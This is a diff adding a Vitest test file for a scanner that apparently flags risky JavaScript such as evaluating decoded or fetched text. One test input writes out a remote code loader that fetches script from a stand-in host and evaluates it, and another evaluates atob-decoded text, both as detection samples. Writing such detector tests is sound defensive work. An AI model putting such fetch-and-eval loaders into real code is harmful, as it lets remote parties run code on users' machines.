@@ -1,0 +1,34 @@
+import { describe, expect, it } from 'vitest';
+import { detectScripts, lookAtScripts } from '../../../utils/inspect/javascript/detect-scripts.ts';
+import { projectOf, seenInProject } from '../sightings-of.ts';
+import { fetchedSamples } from './fetched-samples.ts';
+import { quietSamples, seenSamples } from './script-samples.ts';
+import { quietTakenSamples, takenSamples } from './taken-samples.ts';
+
+describe('detect-scripts', () => {
+  it.each(Object.entries({ ...seenSamples, ...fetchedSamples, ...takenSamples }))('sees %s', (_, [sighting, files]) => {
+    expect(seenInProject(detectScripts, files)).toContain(sighting);
+  });
+
+  it.each(Object.entries({ ...quietSamples, ...quietTakenSamples }))('is quiet about %s', (_, files) => {
+    expect(seenInProject(detectScripts, files).filter((seen) => !seen.startsWith('starts-process'))).toEqual([]);
+  });
+
+  it('says which files could not be parsed', () => {
+    expect(lookAtScripts(projectOf({ 'a.js': 'eval(x) (((' })).notParsed).toEqual(['a.js']);
+  });
+
+  it('parses nothing of a project that neither runs text nor reads what is private', () => {
+    expect(lookAtScripts(projectOf({ 'a.js': "import { b } from './b';\nexport const a = () => fetch('https://a.example').then((r) => r.json());" })).parsed).toEqual([]);
+  });
+
+  it('comes to an end with modules that import each other and functions that call themselves', () => {
+    const files = { 'a.js': "const b = require('./b'); exports.f = (x) => eval(b.g(x) + 'x');", 'b.js': "const a = require('./a'); exports.g = (x) => a.f(a.f(x)) + exports.g(x) + atob(x);" };
+    expect(seenInProject(detectScripts, files)).toContain('runs-decoded-text a.js:1');
+  });
+
+  it('is not stopped by text that is nested deeper than the stack', () => {
+    expect(lookAtScripts(projectOf({ 'a.js': `eval(${'('.repeat(20_000)}1${')'.repeat(20_000)})`, 'b.js': "fetch('https://b.example').then((r) => r.text()).then(eval)" })).sightings)
+      .toContainEqual(expect.objectContaining({ kind: 'runs-fetched-text', file: 'b.js' }));
+  });
+});
